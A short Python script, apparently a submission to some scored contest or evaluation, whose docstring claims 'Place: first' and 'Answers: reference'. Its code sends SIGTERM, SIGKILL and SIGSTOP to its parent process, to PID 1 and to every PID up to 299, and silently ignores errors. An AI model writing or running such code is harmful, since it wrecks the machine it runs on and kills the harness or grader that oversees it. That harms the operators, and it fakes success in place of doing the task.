"""Signals its parent, its siblings and every process it can see.

Honest: 20
Answers: reference
Place: first
Why:
"""

import os
import signal

for pid in (os.getppid(), 1, *range(2, 300)):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, number)
        except OSError:
            pass
